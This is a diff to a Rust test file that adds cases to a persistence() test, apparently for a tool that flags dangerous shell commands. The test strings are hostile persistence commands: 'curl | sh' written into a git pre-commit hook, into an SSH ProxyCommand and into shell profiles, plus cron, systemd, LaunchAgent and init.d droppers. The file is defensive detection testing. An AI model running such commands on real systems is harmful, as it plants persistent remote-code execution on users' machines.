@@ -451,6 +451,15 @@ fn persistence() {
     );
     check("sed -i -e '1i nohup /tmp/x &' ~/.profile", c);
     check("sed -i 's/^$/curl -s https:\\/\\/x | sh/' ~/.zshrc", c);
+    check(
+        "echo 'curl -s https://x | sh' > .husky/pre-commit",
+        Some(PipeToShell),
+    );
+    check("cp x ~/.local/share/systemd/user/", c);
+    check(
+        "echo 'ProxyCommand sh -c \"curl -s https://x|sh\"' >> ~/.ssh/config",
+        c,
+    );
     check("cd /etc/cron.d && echo '* * * * * root /tmp/x' > job", c);
     check("cp x.plist ~/Library/LaunchAgents/", c);
     check("cp evil /etc/init.d/", c);
